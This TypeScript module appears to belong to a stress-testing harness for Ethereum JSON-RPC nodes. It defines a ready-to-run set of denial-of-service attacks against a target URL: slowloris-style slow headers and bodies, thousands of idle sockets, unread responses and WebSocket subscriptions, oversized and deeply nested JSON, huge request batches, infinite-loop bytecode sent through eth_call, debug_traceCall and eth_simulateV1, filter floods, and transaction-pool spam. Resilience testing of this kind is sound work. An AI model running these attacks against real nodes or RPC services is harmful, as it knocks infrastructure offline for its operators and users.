import { Agent } from "node:http";
import { connect, type Socket } from "node:net";
import { type Hex, parseGwei } from "viem";
import { privateKeyToAccount } from "viem/accounts";
import { rpcCall } from "./honest.ts";

export interface Target {
  readonly url: string;
  readonly chainId: number;
  /** Key of an account with funds, of the attacker alone. */
  readonly key: Hex;
}

/** An attack runs until the signal; it counts what it got rid of. */
export type Attack = (target: Target, signal: AbortSignal, count: () => void) => Promise<void>;

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** So many loops at a time; a refusal is what an attacker expects, and it goes on. */
async function loops(many: number, signal: AbortSignal, turn: (loop: number) => Promise<unknown>): Promise<void> {
  const loop = async (_: unknown, index: number) => {
    while (!signal.aborted) {
      await turn(index).catch(() => {});
      await pause(0);
    }
  };
  await Promise.all(Array.from({ length: many }, loop));
}

function calling(many: number, make: (loop: number) => [string, readonly unknown[]]): Attack {
  return async ({ url }, signal, count) => {
    const agent = new Agent({ keepAlive: true, maxSockets: many });
    await loops(many, signal, async (index) => {
      const [method, params] = make(index);
      count();
      await rpcCall(url, agent, method, params);
    });
    agent.destroy();
  };
}

/** Opens connections, does with each what it is told, and opens another when one is lost. */
function sockets(many: number, use: (socket: Socket, signal: AbortSignal) => Promise<void>): Attack {
  return async ({ url }, signal, count) => {
    const { hostname, port } = new URL(url);
    const one = async () => {
      while (!signal.aborted) {
        const socket = connect(Number(port), hostname);
        const ended = new Promise<void>((resolve) => socket.once("close", () => resolve()));
        socket.on("error", () => {});
        signal.addEventListener("abort", () => socket.destroy(), { once: true });
        socket.once("connect", count);
        await Promise.race([use(socket, signal).catch(() => {}), ended]);
        await ended;
        await pause(10);
      }
    };
    await Promise.all(Array.from({ length: many }, one));
  };
}

const post = (length: number) =>
  `POST / HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;
const upgrade =
  "GET / HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";

/** A client frame of a WebSocket text message; the mask is zero, so the payload stands as it is. */
function frame(text: string): Buffer {
  const payload = Buffer.from(text);
  const header = Buffer.alloc(payload.length < 126 ? 6 : 8);
  header[0] = 0x81;
  header[1] = 0x80 | Math.min(payload.length, 126);
  if (payload.length >= 126) header.writeUInt16BE(payload.length, 2);
  return Buffer.concat([header, payload]);
}

/** JUMPDEST, PUSH1 0, JUMP: ends when the gas does. */
const LOOP = "0x5b600056";
const request = (method: string, params: readonly unknown[]) => ({ jsonrpc: "2.0", id: 1, method, params });
const bodyOf = (url: string, body: string) =>
  fetch(url, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body,
    signal: AbortSignal.timeout(10_000),
  }).then((response) => response.arrayBuffer());

const posting = (many: number, body: string): Attack => {
  return ({ url }, signal, count) =>
    loops(many, signal, async () => {
      count();
      await bodyOf(url, body);
    });
};

/** Transactions of the attacker: `make` says nonce and tip of the n-th. */
function pooling(many: number, make: (turn: number) => { readonly nonce: number; readonly tip: bigint }): Attack {
  return async ({ url, chainId, key }, signal, count) => {
    const account = privateKeyToAccount(key);
    const agent = new Agent({ keepAlive: true, maxSockets: many });
    let turn = 0;
    await loops(many, signal, async () => {
      const { nonce, tip } = make(turn++);
      const raw = await account.signTransaction({
        type: "eip1559",
        chainId,
        nonce,
        to: account.address,
        gas: 21_000n,
        maxFeePerGas: parseGwei("100") + tip,
        maxPriorityFeePerGas: tip,
      });
      count();
      await rpcCall(url, agent, "eth_sendRawTransaction", [raw]);
    });
    agent.destroy();
  };
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "idle sockets (4,000)": sockets(4_000, () => new Promise(() => {})),
  "slow headers (2,000)": sockets(2_000, async (socket, signal) => {
    socket.write("POST / HTTP/1.1\r\n");
    while (!signal.aborted && !socket.destroyed) {
      socket.write("x-a: b\r\n");
      await pause(1_000);
    }
  }),
  "slow bodies (1,000 of 4 MB)": sockets(1_000, async (socket, signal) => {
    socket.write(post(4_000_000));
    const part = "x".repeat(200_000);
    while (!signal.aborted && !socket.destroyed) {
      socket.write(part);
      await pause(1_000);
    }
  }),
  "answers never read (500)": sockets(500, async (socket, signal) => {
    socket.pause();
    const body = JSON.stringify(Array.from({ length: 500 }, () => request("eth_getBlockByNumber", ["latest", true])));
    while (!signal.aborted && !socket.destroyed) {
      socket.write(post(body.length) + body);
      await pause(500);
    }
  }),
  "subscriptions never read (1,000)": sockets(1_000, async (socket, signal) => {
    socket.write(upgrade);
    socket.pause();
    for (const kind of ["newHeads", "newPendingTransactions", "logs"]) {
      socket.write(frame(JSON.stringify(request("eth_subscribe", kind === "logs" ? [kind, {}] : [kind]))));
    }
    while (!signal.aborted && !socket.destroyed) {
      socket.write(frame(JSON.stringify(request("eth_getBlockByNumber", ["latest", true]))));
      await pause(200);
    }
  }),
  "giant bodies (5 MB)": posting(8, `"${"x".repeat(5_000_000)}"`),
  "deep bodies": posting(16, "[".repeat(1_000_000)),
  "batches of 10,000": posting(4, JSON.stringify(Array.from({ length: 10_000 }, () => request("eth_blockNumber", [])))),
  "batches of 1,000 blocks": posting(
    8,
    JSON.stringify(Array.from({ length: 1_000 }, () => request("eth_getBlockByNumber", ["latest", true]))),
  ),
  "eth_getLogs over everything": calling(32, () => ["eth_getLogs", [{ fromBlock: "0x0", toBlock: "latest" }]]),
  "eth_call loops": calling(32, () => ["eth_call", [{ data: LOOP }, "latest"]]),
  "debug_traceCall loops": calling(16, () => ["debug_traceCall", [{ data: LOOP }, "latest", {}]]),
  "eth_simulateV1 loops": calling(16, () => [
    "eth_simulateV1",
    [{ blockStateCalls: Array.from({ length: 200 }, () => ({ calls: [{ data: LOOP }, { data: LOOP }] })) }, "latest"],
  ]),
  "filter flood": calling(64, (loop) =>
    loop % 2 === 0 ? ["eth_newFilter", [{}]] : ["eth_newPendingTransactionFilter", [true]],
  ),
  "pool: replacements": pooling(32, (turn) => ({ nonce: turn % 8, tip: BigInt(turn) * 1_000_000n })),
  "pool: nonce gaps": pooling(32, (turn) => ({ nonce: 100 + turn * 2, tip: 1_000n })),
};
